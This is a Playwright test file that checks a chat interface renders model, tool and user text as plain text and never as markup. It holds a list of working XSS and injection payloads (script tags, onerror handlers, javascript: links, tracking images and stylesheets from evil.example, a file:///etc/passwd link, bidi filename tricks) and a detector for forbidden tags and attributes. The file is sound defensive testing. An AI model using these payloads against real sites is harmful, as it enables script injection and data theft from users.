"""What a model, a tool or a user says is never markup: each payload in every place that a text can stand in."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from support.scripts import added, cited, done, event, item, part, said, updated

RUN = "window.pwned=(window.pwned||0)+1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script-split": f"<scr<script>ipt>{RUN}</script>",
    "script-src": "<script src=https://evil.example/x.js></script>",
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-unquoted": f"<img/src=x/onerror={RUN}>",
    "img-unclosed": f"<img src=x onerror={RUN}//",
    "svg-onload": f"<svg onload={RUN}>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    "math": f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}>",
    "body-onload": f"<body onload={RUN}>",
    "details-ontoggle": f"<details open ontoggle={RUN}>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "iframe-javascript": f"<iframe src=javascript:{RUN}></iframe>",
    "object-data": "<object data=data:text/html,<script>alert(1)</script>></object>",
    "form-action": f"<form action=javascript:{RUN}><button>x</button></form>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "base": "<base href=https://evil.example/>",
    "link-css": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style-end": "</style><style>*{background:url(https://evil.example/x)}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css'</style>",
    "css-url": "url(https://evil.example/x);background:url(https://evil.example/x)",
    "css-expression": f"expression({RUN})",
    "attribute-break": f'"><img src=x onerror={RUN}>',
    "attribute-on": f"' onmouseover='{RUN}' x='",
    "comment-break": f"--><img src=x onerror={RUN}>",
    "textarea-break": f"</textarea><img src=x onerror={RUN}>",
    "template": f"<template><img src=x onerror={RUN}></template>",
    "entities": f"&lt;img src=x onerror={RUN}&gt;",
    "numeric-entities": "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "javascript": f"javascript:{RUN}",
    "javascript-link": f"[click](javascript:{RUN})",
    "javascript-case": f"[click](JaVaScRiPt:{RUN})",
    "javascript-tab": f"[click](java\tscript:{RUN})",
    "javascript-line": f"[click](<java\nscript:{RUN}>)",
    "javascript-entity": f"[click](javascript&colon;{RUN})",
    "javascript-hex": "[click](&#x6A;avascript:window.pwned=1)",
    "javascript-percent": "[click](javascript:window%2Epwned%3D1)",
    "javascript-control": f"[click](\x01javascript:{RUN})",
    "javascript-angled": f"<javascript:{RUN}>",
    "javascript-reference": f"[click][x]\n\n[x]: javascript:{RUN}",
    "vbscript": "[click](vbscript:msgbox(1))",
    "data-html": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "data-svg": "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>)",
    "blob-link": "[click](blob:https://evil.example/x)",
    "file-link": "[click](file:///etc/passwd)",
    "credentials": "[click](https://good.example@evil.example/)",
    "image-elsewhere": "![x](https://evil.example/track.png?secret=1)",
    "image-relative-scheme": "![x](//evil.example/track.png)",
    "image-title": f'![x" onerror="{RUN}](https://evil.example/a.png "\' onerror=\'{RUN}")',
    "image-link": f"[![x](https://evil.example/a.png)](javascript:{RUN})",
    "link-in-link": f"[a [b](javascript:{RUN})](https://x.example/)",
    "link-title": f"[click](https://x.example/ \"x' onmouseover='{RUN}\")",
    "code-fence": f"```<img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```",
    "table": f"|<img src=x onerror={RUN}>|\n|-|\n|<script>{RUN}</script>|",
    "prototype": "__proto__",
    "constructor": "constructor",
    "to-string": "toString",
    "template-literal": "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
    "turned-name": "photo\u202egnp.exe",
    "zero-width": "a\u200b\u200d\ufeffb",
    "controls": "a\x00\x08\x1bb",
    "private-use": "\ue0001\ue001\ue0000\ue001",
    "long-word": "W" * 5000,
    "long-markup": "**_[" * 1000,
    "stacked-marks": "e" + "\u0301" * 500,
    "empty": "",
}
assert len(PAYLOADS) >= 60

FORBIDDEN = """(around) => {
  const inside = document.querySelector("ck-chat");
  const wrong = [];
  const tags = "script, iframe, object, embed, link, style, base, meta, template, math, body, animate, video, audio";
  for (const one of inside.querySelectorAll(tags)) wrong.push(`<${one.localName}>`);
  for (const one of inside.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name)) wrong.push(`${one.localName} ${name}`);
      if (["srcdoc", "action", "formaction", "xlink:href"].includes(name)) wrong.push(`${one.localName} ${name}`);
      if (name === "style" && /url|expression|import/i.test(value)) wrong.push(`style ${value}`);
      if (name === "href" && !/^(https?|mailto):/.test(value)) wrong.push(`href ${value}`);
      const away = one.target === "_blank" && one.rel === "noopener noreferrer";
      if (name === "href" && !away) wrong.push(`open ${value}`);
      const from = name === "src" && new URL(value, document.baseURI);
      if (from && from.origin !== location.origin && !/^(data:image|blob:)/.test(value)) wrong.push(`src ${value}`);
    }
  }
  const log = inside.querySelector(".ck-log");
  if (log.scrollWidth > log.clientWidth) wrong.push(`wider by ${log.scrollWidth - log.clientWidth}`);
  return [window.pwned ?? 0, wrong, Object.keys(Object.prototype)];
}"""


def source(text: str, kind: str) -> Any:
    own = {"url": {"url": text, "attribution": text}, "file": {"filename": text}}
    entity = {"id": text, "label": text, "inline_label": text, "icon": text, "interactive": True, "data": {text: text}}
    every = {"title": text, "description": text, "timestamp": text, "group": text}
    return cited(1, **{"type": kind, "url": "", **every, **own.get(kind, entity)})


def user(name: str, text: str) -> Any:
    content = [
        {"type": "input_text", "text": text},
        {"type": "input_tag", "id": text, "text": text, "data": {text: text}, "group": text, "interactive": True},
    ]
    named = {"name": text, "mime_type": text}
    files = [{"type": "file", "id": "f", **named}, {"type": "image", "id": "i", "preview_url": text, **named}]
    return item(
        "user_message",
        name,
        content=content,
        attachments=files,
        quoted_text=text,
        inference_options={"model": text, "tool_choice": {"id": text}},
    )


def tasks(text: str) -> list[Any]:
    url = {"type": "url", "title": text, "url": text, "attribution": text}
    file = {"type": "file", "title": text, "filename": text}
    return [
        {"type": "custom", "title": text, "icon": text, "content": text},
        {"type": "custom", "title": text, "icon": text, "status_indicator": "complete"},
        {"type": "web_search", "title": text, "title_query": text, "queries": [text], "sources": [url]},
        {"type": "thought", "title": text, "content": text},
        {"type": "file", "title": text, "sources": [file]},
        {"type": "image", "title": text},
    ]


def questions(text: str) -> list[Any]:
    options = [{"value": text}]
    answer = {"values": [text], "skipped": False}
    return [
        {
            "type": "multiple_choice",
            "id": text or "a",
            "question": text,
            "options": options,
            "multiple": True,
            "answer": answer,
        },
        {"type": "freeform", "id": "b", "question": text, "description": text, "answer": answer},
    ]


CALLED = {"call_id": "call_1", "status": "completed"}


def card(text: str) -> Any:
    return {"type": "Card", "children": [{"type": kind, "value": text} for kind in ("Text", "Markdown", "Title")]}


def named(name: str, kind: str, **fields: Any) -> list[Any]:
    return done(item(kind, name, **fields))


PLACES: dict[str, Callable[[str, str], list[Any]]] = {
    "user": lambda name, text: [done(user(name, text))],
    "message": lambda name, text: [done(said(text, name=name))],
    "streamed": lambda name, text: [
        added(said("", name=name)),
        updated("assistant_message.content_part.added", name, content_index=0, content=part(text)),
    ],
    "sources": lambda name, text: [
        done(said("abc", *(source(text, kind) for kind in ("url", "file", "entity")), name=name)),
    ],
    "workflow": lambda name, text: [
        named(name, "workflow", workflow={"type": "custom", "tasks": tasks(text), "expanded": True}),
        named(
            f"{name}s", "workflow", workflow={"type": "custom", "tasks": [], "summary": {"title": text, "icon": text}}
        ),
    ],
    "tasks": lambda name, text: [named(f"{name}-{at}", "task", task=task) for at, task in enumerate(tasks(text))],
    "image": lambda name, text: [named(name, "generated_image", image={"id": text, "url": text})],
    "questions": lambda name, text: [named(name, "structured_input", status="pending", inputs=questions(text))],
    "answers": lambda name, text: [named(name, "structured_input", status="answered", inputs=questions(text))],
    "call": lambda name, text: [
        done(item("client_tool_call", name, **CALLED, arguments={text: text}, output={text: text}) | {"name": text}),
    ],
    "widget": lambda name, text: [
        named(name, "widget", copy_text=text, widget=card(text)),
        named(f"{name}u", "widget", widget={"type": "Card", "children": [{"type": text}]}),
    ],
    "notice": lambda _name, text: [event("notice", level="warning", message=text, title=text)],
    "effect": lambda _name, text: [event("client_effect", name=text, data={text: text})],
}


@pytest.mark.parametrize("place", PLACES)
def test_no_payload_is_more_than_text(chat: Page, bed: Any, place: str) -> None:
    operations = [one for name, text in PAYLOADS.items() for one in PLACES[place](name, text)]
    bed.play(chat, *operations, ["notice", "the end"])
    expect(chat.locator(".ck-notice").last).to_contain_text("the end")
    expect(chat.locator("article:empty")).to_have_count(0, timeout=20_000)  # far from the screen, they are drawn later
    assert PAYLOADS["script"] in chat.locator(".ck-items").text_content()
    chat.evaluate("for (const one of document.querySelectorAll('ck-chat details')) one.open = true")
    assert chat.evaluate(FORBIDDEN) == [0, [], []]


def test_no_payload_is_more_than_text_around_the_conversation(chat: Page, bed: Any) -> None:
    """Titles in the bar and the history, reasons, progress, errors, and what the composer offers."""
    bed.play(chat, ["notice", "begin"])
    chat.get_by_label("Message", exact=True).press_sequentially("@")
    texts = list(PAYLOADS.values())
    for together in (" ".join(texts[at : at + 9]) for at in range(0, len(texts), 9)):
        chat.evaluate(AROUND, together)
        assert chat.evaluate(FORBIDDEN) == [0, [], []], together[:200]


AROUND = """async (text) => {
  const { session, settings } = inspector;
  const drawn = async (...places) => {
    for (let frames = 0; frames < 2; frames += 1) await new Promise(requestAnimationFrame);
    const lacking = places.filter((name) => !document.querySelector(`.ck-${name}`).textContent.includes(text));
    if (lacking.length) throw new Error(`not shown in ${lacking}: ${text}`);
  };
  const choice = { id: text || "x", label: text, title: text, group: text, icon: text };
  settings.set({ models: [choice], tools: [choice], entities: [choice] });
  const field = document.querySelector(".ck-composer-text");
  field.dispatchEvent(new Event("input", { bubbles: true }));
  await drawn("tags", "pick"); // before a locked field loses the focus
  await session.rename(session.threadId, text);
  const status = { type: "locked", reason: text };
  session.take({ type: "thread.updated", thread: { ...session.thread, title: text, status } });
  session.take({ type: "progress_update", text, icon: text });
  session.take({ type: "error", code: text, message: text, allow_retry: true });
  await drawn("thread-name", "locked", "working", "error");
  document.querySelector("[aria-label=History]").click();
  await drawn("thread-title");
  document.querySelector(".ck-drawer").close();
}"""


def test_a_name_does_not_turn_what_follows(chat: Page, bed: Any) -> None:
    text = PAYLOADS["turned-name"]
    file = cited(1, type="file", title=text, filename=text)
    bed.play(chat, done(user("u", text)), done(said("abc", file)))
    shown = "photo\ufffdgnp.exe"
    expect(chat.locator(".ck-attached .ck-name").first).to_have_text(shown)
    expect(chat.locator(".ck-source-title")).to_have_text(shown)
    expect(chat.locator(".ck-source-detail")).to_have_text(shown)


def test_a_payload_that_is_markup_would_be_found(chat: Page) -> None:
    chat.evaluate("""() => {
      const bad = document.createElement("a");
      bad.setAttribute("href", "javascript:1");
      document.querySelector("ck-chat .ck-items").append(bad, document.createElement("iframe"));
    }""")
    assert chat.evaluate(FORBIDDEN)[1] == ["<iframe>", "href javascript:1", "open javascript:1"]
    chat.evaluate("document.querySelectorAll('ck-chat .ck-items > :is(a, iframe)').forEach((one) => one.remove())")


def test_images_load_from_where_the_thread_allows(chat: Page, bed: Any) -> None:
    asked = """(urls) => Promise.all([import("/inspector/text/images.js")]).then(([{ imagesFrom }]) => {
      const allowed = imagesFrom(["cdn.example", "*.wild.example", "https://full.example/"]);
      return urls.map((url) => allowed(url));
    })"""
    yes = [
        "https://cdn.example/a",
        "http://cdn.example/a",
        "https://a.wild.example/b",
        "https://full.example/c",
        "/here.png",
        "data:image/png;base64,AA==",
    ]
    no = [
        "https://cdn.example.evil.example/a",
        "https://xcdn.example/a",
        "https://wild.example.evil.example/",
        "https://evil.example/?cdn.example",
        "https://cdn.example@evil.example/",
        "//evil.example/a",
        "data:text/html,x",
        "javascript:1",
        "ftp://cdn.example/",
        "",
        "https://",
    ]
    assert chat.evaluate(asked, yes) == [True] * len(yes)
    # The empty address is the page itself, and no image.
    assert chat.evaluate(asked, [one for one in no if one]) == [False] * (len(no) - 1)
    bed.play(chat, ["domains", ["other.example"]], done(said("![a](https://cdn.example/a.png)")))
    expect(chat.locator(".ck-image-placeholder")).to_contain_text("https://cdn.example/a.png")
